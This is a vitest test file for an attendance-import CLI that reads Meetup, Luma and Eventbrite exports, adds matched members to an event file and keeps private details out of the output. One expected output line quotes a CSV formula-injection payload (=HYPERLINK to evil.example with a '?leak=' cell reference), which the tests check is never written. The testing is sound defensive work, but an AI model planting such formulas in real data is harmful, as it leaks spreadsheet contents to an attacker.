/**
 * `npm run import -- attendance` as an organiser runs it, on copies of the
 * good fixture, with the exports of test/fixtures/attendance/: the event file
 * gains exactly the matched attendees (every other byte kept), nothing
 * private is written or printed, a second run changes nothing, --dry-run
 * writes nothing, and what cannot be done is refused with nothing written.
 */
import { readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { runAttendance } from '../../src/cli/commands/import-attendance.ts';
import { runCommand } from '../../src/cli/run-command.ts';
import { EXPORT_MAX_BYTES } from '../../src/contribute/attendance/read-export.ts';
import { copyContent, FIXTURES, hashTree, PROJECT, scratch } from '../helpers/build.ts';

const EXPORTS = join(FIXTURES, 'attendance');
const SPRING = 'events/2024-03-10-spring-forward.md';

/** The command run in this process, as the CLI's exit wrapper runs it, with what it printed. */
async function importAttendance(content: string, ...args: string[]) {
  let stdout = '';
  let stderr = '';
  const out = vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => {
    stdout += String(chunk);
    return true;
  });
  const err = vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => {
    stderr += String(chunk);
    return true;
  });
  try {
    const status = await runCommand('import', () => runAttendance([...args, '--content', content]));
    return { status, stdout, stderr };
  } finally {
    out.mockRestore();
    err.mockRestore();
  }
}

/** A copy of the good fixture with Finn, whose website is his Meetup profile and whose name the export does not use. */
function community(name: string): string {
  const content = copyContent('good', name);
  writeFileSync(join(content, 'people/finn.md'), '---\nname: Finn Nakamura\naccounts:\n  website: https://www.meetup.com/members/424242/\n---\n');
  return content;
}
const read = (content: string, path: string) => readFileSync(join(content, path), 'utf8');
const shown = (content: string, path: string) => relative(PROJECT, join(content, path));
/** Every e-mail address, phone number, home address and answer of the fixture exports. */
const PRIVATE = /@mail\.example|555[- ]?01\d\d|0612345678|6 12 34 56 78|Pier Road|Step-free/;
/** That, and the names of the fixture exports' people who are not members. */
const NEVER_WRITTEN = new RegExp(`${PRIVATE.source}|HYPERLINK|Stranger|Visitor|Newcomer|Anouk`);

beforeEach(() => vi.stubEnv('FIRSTHAND_NOW', '2025-01-01T00:00:00Z'));
afterEach(() => vi.unstubAllEnvs());

describe('npm run import -- attendance', () => {
  it('adds the matched attendees of a Meetup export, by profile and by name, keeping every other byte, and lists the rest', async () => {
    const content = community('attendance-meetup');
    const before = read(content, SPRING);
    const r = await importAttendance(content, '2024-03-10-spring-forward', join(EXPORTS, 'meetup.csv'));
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    expect(read(content, SPRING)).toBe(before.replace('attendees: [cleo]\n', 'attendees: [cleo, ada, finn]\n'));
    expect(r.stdout).toBe(
      [
        "Read Meetup's export.",
        `Added 2 to the attendees (${shown(content, SPRING)}):`,
        '  row 2: "ada  quill" as ada',
        '  row 3: "F. Nakamura" as finn',
        'Already taking part, 1:',
        `  row 6: "${'Cléo Martin'.normalize('NFD')}" as cleo`,
        'Skipped 2 not marked as attended or checked in.',
        'Not added, 2 who attended and could not be matched to a member (nothing of theirs was written):',
        '  row 7: "Zoe Stranger"',
        '  row 8: "=HYPERLINK(\\"https://evil.example/?leak=\\"&A1,\\"Click me\\")"',
        'Ask those who want to be on the site, add them with npm run new -- person <handle> --name "…", and run this again.',
        '',
      ].join('\n'),
    );
    // A second run finds them all there.
    const files = hashTree(content);
    const again = await importAttendance(content, '2024-03-10-spring-forward', join(EXPORTS, 'meetup.csv'));
    expect(again.status).toBe(0);
    expect(again.stdout).toMatch(/^Read Meetup's export\.\nNobody to add: .* is unchanged\.\nAlready taking part, 3:\n/);
    expect(hashTree(content)).toEqual(files);
  });

  it('writes and prints nothing private from any export, and hides a name that is a phone number', async () => {
    for (const file of ['meetup.csv', 'luma.csv', 'eventbrite.csv', 'eventbrite-semicolon.csv']) {
      const content = community(`attendance-private-${file}`);
      const r = await importAttendance(content, '2024-03-10-spring-forward', join(EXPORTS, file));
      expect(r.status, file).toBe(0);
      expect(`${r.stdout}${r.stderr}`, file).not.toMatch(PRIVATE);
      for (const path of Object.keys(hashTree(content))) if (/\.mdx?$/.test(path)) expect(read(content, path), path).not.toMatch(NEVER_WRITTEN);
    }
    const content = community('attendance-luma');
    const luma = await importAttendance(content, '2024-03-10-spring-forward', join(EXPORTS, 'luma.csv'));
    expect(luma.stdout).toContain('  row 5: (a name holding an e-mail address or a phone number, not shown)\n  row 6: "Rosa Newcomer"\n');
    expect(read(content, SPRING)).toContain('\nattendees: [cleo, ada]\n');
  });

  it("reads Eventbrite's check-ins, its ';'-separated European export, and a UTF-16 export as Excel saves it", async () => {
    const eventbrite = community('attendance-eventbrite');
    const r = await importAttendance(eventbrite, '2024-03-10-spring-forward', join(EXPORTS, 'eventbrite.csv'));
    // Ben hosts it; Ada has a check-in date; Cléo never checked in; Dev's order was deleted.
    expect(r.stdout).toContain('Added 1 to the attendees');
    expect(r.stdout).toContain('Already taking part, 1:\n  row 2: "Ben Ortiz" as ben\nSkipped 2 not marked');
    expect(read(eventbrite, SPRING)).toContain('\nattendees: [cleo, ada]\n');

    const utf16 = community('attendance-utf16');
    const text = readFileSync(join(EXPORTS, 'eventbrite-semicolon.csv'), 'utf8').replaceAll(';', '\t');
    const path = join(scratch('attendance-utf16-export'), 'attendees.txt');
    writeFileSync(path, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
    const u = await importAttendance(utf16, '2024-03-10-spring-forward', path);
    expect(u.status).toBe(0);
    expect(u.stdout).toContain('  row 2: "Ada Quill" as ada\n');
    expect(u.stdout).toContain('  row 4: "Anouk Van\\u{9} Dijk"\n');
  });

  it('writes nothing with --dry-run, and says what it would add', async () => {
    const content = community('attendance-dry-run');
    const before = hashTree(content);
    const r = await importAttendance(content, '2024-03-10-spring-forward', join(EXPORTS, 'meetup.csv'), '--dry-run');
    expect(r.status).toBe(0);
    expect(r.stdout).toMatch(/^Read Meetup's export\.\nWould add 2 to the attendees/);
    expect(r.stdout).toMatch(/\nDry run: nothing was written\.\n$/);
    expect(hashTree(content)).toEqual(before);
  });

  it('keeps the comments and the list style of the event file', async () => {
    const content = community('attendance-layout');
    const file =
      '---\r\ntitle: Spring-forward breakfast # the early one\r\nstart: 2024-03-10 03:30\r\nvenue:\r\n  name: The All-Night Diner\r\nhosts: [ben]\r\nattendees:\r\n  # who came\r\n  - "cleo"\r\n---\r\nBody.\r\n';
    writeFileSync(join(content, SPRING), file);
    expect((await importAttendance(content, '2024-03-10-spring-forward', join(EXPORTS, 'meetup.csv'))).status).toBe(0);
    expect(read(content, SPRING)).toBe(file.replace('  - "cleo"\r\n', '  - "cleo"\r\n  - "ada"\r\n  - "finn"\r\n'));
  });

  it('lists a name two members share, and adds neither', async () => {
    const content = community('attendance-ambiguous');
    writeFileSync(join(content, 'people/ada-q.md'), '---\nname: ADA QUILL\n---\n');
    const r = await importAttendance(content, '2024-03-10-spring-forward', join(EXPORTS, 'meetup.csv'));
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('  row 2: "ada  quill", the name of ada and ada-q: add the one who came with npm run add -- attendee\n');
    expect(read(content, SPRING)).toContain('\nattendees: [cleo, finn]\n');
  });

  it('refuses a cancelled, postponed or future event, an unknown event and an unknown export, writing nothing', async () => {
    const content = community('attendance-refused');
    writeFileSync(
      join(content, 'events/2024-10-01-later.md'),
      '---\ntitle: Later\nstart: 2024-10-01 19:00\nstatus: postponed\nvenue:\n  name: Somewhere\n---\n',
    );
    const unknownShape = join(scratch('attendance-unknown-export'), 'contacts.csv');
    writeFileSync(unknownShape, 'Full name,Email,Phone\nZoe,zoe@mail.example,+1 415 555 0134\n');
    const before = hashTree(content);
    const attempt = (slug: string, file = join(EXPORTS, 'meetup.csv')) => importAttendance(content, slug, file);
    expect(await attempt('2024-09-14-rained-out')).toMatchObject({
      status: 1,
      stdout: '',
      stderr: expect.stringMatching(/"2024-09-14-rained-out" was cancelled, so nobody went\. Nothing was written\.\n$/),
    });
    expect((await attempt('2024-10-01-later')).stderr).toMatch(/is postponed, so it has not taken place yet/);
    expect((await attempt('2030-01-01-new-decade')).stderr).toMatch(/starts 2030-01-01T00:30:00-05:00, so nobody has attended it yet/);
    expect((await attempt('2024-03-10-spring-fwd')).stderr).toMatch(/^unknown event "2024-03-10-spring-fwd" — did you mean "2024-03-10-spring-forward"\?/);
    const shape = await attempt('2024-03-10-spring-forward', unknownShape);
    expect(shape.status).toBe(1);
    expect(shape.stderr).toContain(
      'told by these columns:\n  Luma: api_id, name, checked_in_at\n  Meetup: Name, Attendance, URL of Member Profile or User ID\n',
    );
    expect(shape.stderr).not.toMatch(PRIVATE);
    // Past the limit, the file is refused by its size alone (a sparse file: nothing of it is read).
    const huge = join(scratch('attendance-huge-export'), 'attendees.csv');
    writeFileSync(huge, '');
    truncateSync(huge, EXPORT_MAX_BYTES + 1);
    expect((await attempt('2024-03-10-spring-forward', huge)).stderr).toMatch(
      /attendees\.csv: the export is 10485761 bytes, over the 10 MB an attendee export can be/,
    );
    expect(hashTree(content)).toEqual(before);
  });

  it("refuses an event file that does not pass check, with check's own line", async () => {
    const content = community('attendance-broken-event');
    writeFileSync(join(content, SPRING), read(content, SPRING).replace('attendees: [cleo]', 'attendees: [cleoo]'));
    const before = hashTree(content);
    const r = await importAttendance(content, '2024-03-10-spring-forward', join(EXPORTS, 'meetup.csv'));
    expect(r.status).toBe(1);
    expect(r.stderr).toContain(`${shown(content, SPRING)}:9:13 attendees[0]: unknown handle "cleoo" — did you mean "cleo"?\n`);
    expect(r.stderr).toMatch(/must pass npm run check before import can change it\. Nothing was written\.\n$/);
    expect(hashTree(content)).toEqual(before);
  });

  it('says how it is called when it is not', async () => {
    const content = community('attendance-usage');
    expect((await importAttendance(content, '2024-03-10-spring-forward')).status).toBe(2);
    expect((await importAttendance(content, 'a', 'b', 'c')).stderr).toMatch(/^import -- attendance takes an event and an export file\./);
    expect(await importAttendance(content, '2024-03-10-spring-forward', join(EXPORTS, 'missing.csv'))).toMatchObject({
      status: 2,
      stderr: expect.stringMatching(/^cannot open .*missing\.csv: ENOENT\. Nothing was written\.\n$/),
    });
    expect((await importAttendance(content, '2024-03-10-spring-forward', EXPORTS)).stderr).toMatch(/attendance is not a file\. Nothing was written\.\n$/);
    expect((await importAttendance(content, '--help')).stdout).toMatch(/^Usage:\n {2}npm run import -- attendance/);
  });
});
